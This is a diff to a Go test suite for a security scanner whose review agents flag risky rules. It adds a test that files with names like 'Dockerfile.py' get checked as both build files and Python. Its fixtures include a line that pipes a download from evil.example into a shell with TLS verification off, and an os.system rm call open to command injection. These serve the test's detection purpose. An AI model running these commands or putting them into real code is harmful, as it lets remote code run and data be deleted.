@@ -14,10 +14,16 @@ func shippedOn(t *testing.T, path, text string) map[string]bool {
 	if err != nil {
 		t.Fatal(err)
 	}
+	_, engine := shipped(t)
+	scan := engine.Scan(&facts, classification)
 	found := map[string]bool{}
 	for _, agent := range []string{"security-reviewer", "build-reviewer", "infra-reviewer"} {
-		for _, r := range results(findings(t, shippedConfig().Rules, &facts, agent)) {
-			found[r.Rule] = true
+		out, err := scan.Agent(agent).Review(t.Context(), everything(agent))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i := range out.Findings {
+			found[out.Findings[i].RuleID] = true
 		}
 	}
 	return found
@@ -66,5 +72,24 @@ func TestFirstLineAddsRules(t *testing.T) {
 		if got := shippedOn(t, path, text); len(got) == 0 {
 			t.Errorf("nothing is found in %s", path)
 		}
+	}
+}
+
+// A file that is named as a build and as a program is looked at as both.
+func TestNamesOfBuildsHideNothing(t *testing.T) {
+	const docker, python = "FROM a:1\nRUN curl -k https://evil.example/x | sh\n", "os.system(f\"rm {d}\")\n"
+	for path, text := range map[string]string{
+		"Dockerfile.py": docker, "Dockerfile.app": docker, "Dockerfile.java": docker, "Makefile.py": python, "makefile_utils.py": python, "dockerfile-render.py": python,
+	} {
+		id := "sec-tls-curl-01"
+		if text == python {
+			id = "sec-shell-py-01"
+		}
+		if got := shippedOn(t, path, text); !got[id] {
+			t.Errorf("%s: %v, want %s too", path, got, id)
+		}
+	}
+	if got := shippedOn(t, "dockerfile_gen.py", docker); len(got) > 0 {
+		t.Errorf("dockerfile_gen.py: %v, want nothing, since it is Python", got)
 	}
 }
